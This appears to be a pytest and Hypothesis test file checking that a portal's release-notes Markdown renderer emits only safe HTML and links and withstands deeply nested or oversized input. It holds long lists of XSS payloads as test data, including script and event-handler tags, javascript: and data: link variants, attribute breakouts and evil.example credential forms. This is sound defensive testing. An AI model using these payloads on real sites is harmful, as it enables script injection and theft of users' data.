from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.documents.markdown import MAX_DEPTH, MAX_LINK_CHARS
from portal.releases.markdown import MAX_NOTES_CHARS, NotesTooLong, render

TAGS = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code"),
    *("em", "strong", "s", "a", "table", "thead", "tbody", "tr", "th", "td"),
}
REL = "noopener noreferrer nofollow"


class Page(HTMLParser):
    """What a browser would find: every tag and attribute outside the short list is a breach."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.breaches, self.links, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(tag, set())
        if tag not in TAGS or not {name for name, _ in attributes} <= allowed:
            self.breaches.append((tag, attributes))
        if tag == "a":
            facts = dict(attributes)
            address = facts.get("href", "https://")  # without an address it is no link
            self.links += [address] if "href" in facts else []
            if facts.get("rel") != REL or not address.lower().startswith(("https://", "http://", "mailto:")):
                self.breaches.append((tag, attributes))

    def handle_comment(self, data):
        self.breaches.append(("comment", data))

    def handle_decl(self, decl):
        self.breaches.append(("declaration", decl))

    unknown_decl = handle_pi = handle_decl

    def handle_data(self, data):
        self.text += data


ATTACKS = [
    # HTML as it stands
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg/onload=alert(1)//", "<body onload=alert(1)>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">', "<iframe src=https://evil.example></iframe>",
    '<math href="javascript:alert(1)">x</math>', "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
    "<style>@import 'https://evil.example/x.css'</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">', "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>", "<details open ontoggle=alert(1)>x</details>",
    '<p style="position:fixed;inset:0" class="btn" id="main">x</p>', "<!-- <script>alert(1)</script> -->",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>", "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=x>'>",
    "<a href=javascript:alert(1)>x</a>", '<a href="https://ok.example" onclick=alert(1)>x</a>',
    "</div></main><h1>x</h1>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<div\n\nonclick=alert(1)>x", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script>alert(1)\\</script>",
    "<template><script>x</script></template>",
    # links
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))", "[x](&#x6A;&#x61;vascript&#58;alert&#40;1&#41;)", "[x](javascript&#x3a;alert(1))",
    "[x](<java\nscript:alert(1)>)", "[x](&Tab;javascript:alert(1))", "[x](&NewLine;javascript:alert(1))",
    "[x](java&#10;script:alert(1))", "[x](java&#0;script:alert(1))", "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))", "[x](< javascript:alert(1)>)", "[x](\u00a0javascript:alert(1))",
    "[x](\\javascript:alert(1))", "[x](javascript\\:alert(1))", "[x](%6aavascript:alert(1))",
    "[x](javascript%3aalert(1))",
    "[x](vbscript:msgbox(1))", "[x](VBScript&#58;msgbox)", "[x](file:///etc/passwd)", "[x](ftp://evil.example/)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](DATA:text/html,x)", "[x](data:image/png;base64,iVBORw0KGgo=)", "[x](blob:https://ok.example/1)",
    "[x](tel:112)",
    "[x](//evil.example/)", "[x](\\\\evil.example/)", "[x](/\\evil.example)", "[x](///evil.example)", "[x](https:evil)",
    "[x](&#47;&#47;evil.example)", "[x](/account/delete)", "[x](?delete)", "[x](#main)", "[x](..)", "[x]()", "[x](<>)",
    "[x](https://)", "[x](https:///evil.example)", "[x](http://\\evil.example)", "[x](ｊavascript:alert(1))",
    "[x](https://portal.example@evil.example/)", "[x](https://user:word@evil.example/)", "[x](mailto:)",
    "[x](view-source:x)",
    "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<data:text/html,x>", "<vbscript:x>", "<file:///etc/passwd>",
    "[x]\n\n[x]: javascript:alert(1)", "[x][y]\n\n[y]: <javascript:alert(1)> 'title'", "[x][]\n\n[x]: data:text/html,x",
    "[x]\n\n[x]: //evil.example", '> [x]\n\n- 1\n  [x]: JAVASCRIPT:alert(1) "t"',
    "[<script>]\n\n[<script>]: javascript:x",
    "**[*x*](javascript:alert(1))**", "| [x](javascript:alert(1)) |\n|---|\n| [y](data:text/html,x) |",
    "# [x](javascript:alert(1))", "[`x`](javascript:alert(1))", "[![x](javascript:alert(1))](javascript:alert(2))",
]  # fmt: skip

BREAKOUTS = [
    '[x](https://ok.example/"onclick="alert(1))',
    "[x](https://ok.example/'onclick='alert(1))",
    '[x](<https://ok.example/"><script>alert(1)</script>>)',
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example '\"><script>alert(1)</script>')",
    '<https://ok.example/"onclick="alert(1)>',
    "[x](https://ok.example/&quot;onclick=&quot;alert(1))",
    "[x](https://ok.example/`onclick=alert(1)`)",
    "[a [b](https://ok.example/b) c](https://ok.example/a)",
    "[![a [b](https://ok.example/b)](p)](https://ok.example/a)",
    '[x]\n\n[x]: https://ok.example/ "><img src=x onerror=alert(1)>"',
    "[x](https://ok.example/{{7*7}}{%25print(1)%25})",
]

MARKUP = [
    '```"><script>alert(1)</script>\nx\n```',
    '```js onclick="alert(1)" class=x\nx\n```',
    "~~~ html\n<script>alert(1)</script>\n~~~",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
    "# <svg onload=alert(1)> {#main .btn style=color:red}",
    "1. <img src=x onerror=alert(1)>",
    "999999999. x",
    "{{ config }} {% include 'x' %}",
    "x {: onclick=alert(1) }",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
]


@pytest.mark.parametrize("attack", ATTACKS + BREAKOUTS + MARKUP)
def test_no_script_no_style_and_no_foreign_tag_comes_through(attack):
    assert Page(render(attack)).breaches == []


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_makes_no_link_at_all(attack):
    assert Page(render(attack)).links in ([], ["https://ok.example"] if "ok.example" in attack else [])
    assert "<a" not in render(attack)


@pytest.mark.parametrize("source", BREAKOUTS)
def test_a_link_cannot_be_broken_out_of_and_stands_in_no_other(source):
    page = Page(render(source))
    assert len(page.links) == 1
    assert page.links[0].startswith("https://ok.example")


@pytest.mark.parametrize(
    "source",
    [
        "![a diagram](https://evil.example/pixel.png)",
        "![a diagram](http://evil.example/pixel.png?customer=17)",
        "![a diagram](//evil.example/pixel.png)",
        "![a diagram](/account/sign-out)",
        "![a diagram](data:image/png;base64,iVBORw0KGgo=)",
        "![a diagram](data:image/svg+xml,<svg/onload=alert(1)>)",
        "![a diagram](javascript:alert(1))",
        "![a diagram](file://evil.example/share)",
        "![a diagram](<https://evil.example/a b.png> 'its title')",
        "![a diagram]()",
        "![a diagram][p]\n\n[p]: https://evil.example/pixel.png",
        "![a diagram][]\n\n[a diagram]: https://evil.example/pixel.png",
        "![a diagram]\n\n[a diagram]: //evil.example/pixel.png 'x'",
        "![![a diagram](https://evil.example/1)](https://evil.example/2)",
        "[![a diagram](https://evil.example/1)](javascript:alert(1))",
        "![a&#32;diagram](&#104;ttps://evil.example/pixel.png)",
    ],
)
def test_a_picture_is_its_description_and_nothing_is_fetched(source):
    html = render(source)
    assert Page(html).text.strip() == "a diagram"
    assert "evil" not in html
    assert "<img" not in html
    assert Page(html).breaches == []


def test_a_picture_within_a_link_leaves_the_link():
    link = f'<a href="https://ok.example/" rel="{REL}">build passing</a>'
    assert render("[![build passing](https://evil.example/badge.svg)](https://ok.example/)") == f"<p>{link}</p>\n"
    assert render("a ![](https://evil.example/x.png)b") == "<p>a b</p>\n"


@pytest.mark.parametrize(
    ("source", "address"),
    [
        ("[x](https://ok.example)", "https://ok.example"),
        ("[x](http://ok.example:8080/a?b=c&d=e#f)", "http://ok.example:8080/a?b=c&d=e#f"),
        ("[x](HTTPS://OK.example/)", "HTTPS://OK.example/"),
        ("[x](https://[2001:db8::1]/x)", "https://[2001:db8::1]/x"),
        ("[x](<https://ok.example/a b>)", "https://ok.example/a%20b"),
        ("[x](https://ok.example/@user)", "https://ok.example/@user"),
        ("<https://ok.example/x>", "https://ok.example/x"),
        ("<support@ok.example>", "mailto:support@ok.example"),
        ("[x](mailto:support@ok.example?subject=CVE)", "mailto:support@ok.example?subject=CVE"),
        (
            "[x](https://пример.рф/описание)",
            "https://xn--e1afmkfd.xn--p1ai/%D0%BE%D0%BF%D0%B8%D1%81%D0%B0%D0%BD%D0%B8%D0%B5",
        ),
        ("[x][y]\n\n[y]: https://ok.example/", "https://ok.example/"),
    ],
)
def test_a_good_link_stays_and_lends_nothing(source, address):
    page = Page(render(source))
    assert (page.links, page.breaches) == ([address], [])


def test_a_bad_link_leaves_its_text():
    assert render("[see *here*](javascript:alert(1)) now") == "<p>see <em>here</em> now</p>\n"


def test_an_address_of_unusual_length_is_no_link():
    stem = "https://ok.example/"
    longest = stem + "x" * (MAX_LINK_CHARS - len(stem))
    assert Page(render(f"[x]({longest})")).links == [longest]
    assert Page(render(f"[x]({longest}x)")).links == []


@pytest.mark.parametrize(("level", "tag"), [(1, "h3"), (2, "h4"), (3, "h5"), (4, "h6"), (5, "h6"), (6, "h6")])
def test_headings_stand_below_those_of_the_page(level, tag):
    assert render(f"{'#' * level} Security") == f"<{tag}>Security</{tag}>\n"


def test_underlined_headings_too():
    assert render("One\n===\n\nTwo\n---\n") == "<h3>One</h3>\n<h4>Two</h4>\n"


def test_notes_look_as_they_are_meant():
    source = """\
Fixed ~~two~~ **three** faults:

- `bgpd` *leaks*
- CVE-2024-12345

3. third
4. fourth

> «Прошивка» „schön“ “fine” 'plain' "straight" — … 中文

```python
if a < b: pass
```

| Model | Throughput |
|:------|-----------:|
| X \\| Y | 10 Gbit/s |
"""
    html = render(source)
    assert Page(html).breaches == []
    for part in (
        "Fixed <s>two</s> <strong>three</strong> faults:",
        "<li><code>bgpd</code> <em>leaks</em></li>",
        '<ol start="3">\n<li>third</li>',
        "<blockquote>\n<p>«Прошивка» „schön“ “fine” 'plain' \"straight\" — … 中文</p>",
        "<pre><code>if a &lt; b: pass\n</code></pre>",
        "<table>\n<thead>\n<tr>\n<th>Model</th>\n<th>Throughput</th>",
        "<tbody>\n<tr>\n<td>X | Y</td>\n<td>10 Gbit/s</td>",
    ):
        assert part in html


def test_html_is_shown_as_written():
    assert render("a <b>c</b> & d") == "<p>a &lt;b&gt;c&lt;/b&gt; &amp; d</p>\n"


def test_an_empty_text_is_empty():
    assert render("") == ""
    assert render(" \n\t\n") == ""


@pytest.mark.parametrize(
    "character",
    [
        *("\x00", "\x07", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\x9f", "\u202e", "\u2066", "\ud800", "\udfff"),
        *("&#0;", "&#x202e;", "&#x2067;"),
    ],
)
def test_what_cannot_be_shown_is_replaced(character):
    html = render(f"a{character}b `c{character}d`")
    html.encode("utf-8")
    assert html.startswith("<p>a\ufffdb ")
    assert not set(html) & set("\x00\x07\x0b\x0c\x1b\x7f\x85\x9f\u202e\u2066\u2067")


def test_any_ending_of_lines_will_do():
    assert render("a\r\n\r\nb\rc") == "<p>a</p>\n<p>b\nc</p>\n"


@pytest.mark.parametrize("length", [MAX_NOTES_CHARS + 1, 1_000_000])
def test_a_text_that_is_too_long_is_refused_with_its_length(length):
    with pytest.raises(NotesTooLong) as refusal:
        render("[" * length)
    assert refusal.value.code == "notes-too-long"
    assert refusal.value.facts == {"length": length, "limit": MAX_NOTES_CHARS}


@pytest.mark.parametrize("marker", ["> ", "- ", "1. ", "> - ", ">"])
@pytest.mark.parametrize("depth", [MAX_DEPTH // 2, MAX_DEPTH - 1, MAX_DEPTH, MAX_DEPTH + 1, 5 * MAX_DEPTH])
def test_however_deep_it_is_nested_no_text_is_lost(marker, depth):
    html = render(f"{marker * depth}first\nsecond\n\nthird")
    page = Page(html)
    assert [word for word in ("first", "second", "third") if word in page.text] == ["first", "second", "third"]
    assert html.count("<blockquote>") + 2 * html.count("<li>") <= MAX_DEPTH + 1
    assert page.breaches == []


def test_quotes_that_a_bare_line_ends_stay_quotes():
    html = render("> ```\n> x\nbare\n\n" * 1_000 + "> last\n")
    assert html.count("<blockquote>\n<pre><code>x\n</code></pre>\n</blockquote>\n<p>bare</p>\n") == 1_000
    assert html.endswith("<blockquote>\n<p>last</p>\n</blockquote>\n")


def test_quotes_that_would_be_read_again_and_again_keep_their_text():
    page = Page(render("> # one\ntwo\n" * 5_000))
    assert (page.text.count("one"), page.text.count("two"), page.breaches) == (5_000, 5_000, [])


def test_one_reference_named_ten_thousand_times_does_not_fill_the_memory():
    source = f"[a]: https://ok.example/{'x' * 1900}\n\n" + "[a] " * 24_000
    html = render(source)
    assert len(html) < 20 * MAX_NOTES_CHARS
    assert 300 < len(Page(html).links) < 320
    assert Page(html).text.count("a") == 24_000


def test_an_honest_text_keeps_all_its_links():
    source = "".join(f"- [fault {number}](https://ok.example/issues/{number})\n" for number in range(2_000))
    assert len(Page(render(source)).links) == 2_000


def test_many_tables_that_are_mostly_empty_do_not_fill_the_memory():
    wide = f"{'|a' * 100}\n{'|-' * 100}\n" + "a\n" * 600 + "\n"
    html = render((wide * 60)[:MAX_NOTES_CHARS])
    assert html.count("<table>") == 1
    assert len(html) < 20 * MAX_NOTES_CHARS


def test_a_large_honest_table_and_those_before_it_stay():
    small = "|a|b|\n|-|-|\n|c|d|\n\n"
    large = "|Port|State|\n|-|-|\n" + "".join(f"|{number}|up|\n" for number in range(5_000))
    assert render(small * 20 + large).count("<table>") == 21


@given(st.text(max_size=300) | st.lists(st.sampled_from([*ATTACKS, *BREAKOUTS, *MARKUP]), max_size=4).map("".join))
def test_any_text_becomes_harmless_html(source):
    html = render(source)
    assert Page(html).breaches == []
    html.encode("utf-8")


pieces = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "`",
    "*",
    "_",
    "~~",
    "|",
    "-",
    ":",
    "#",
    "\\",
    "&",
    "&#x",
    ";",
    "\n",
    "\n\n",
    " ",
]
pieces += [
    "    ",
    "> ",
    "- ",
    "1. ",
    "|-|\n",
    "```",
    "javascript:",
    "https://",
    "//",
    "data:",
    "<img src=",
    "a",
    "[a]: ",
    '"',
]


@given(st.lists(st.sampled_from(pieces), max_size=40).map("".join))
def test_any_heap_of_signs_becomes_harmless_html(source):
    assert Page(render(source)).breaches == []
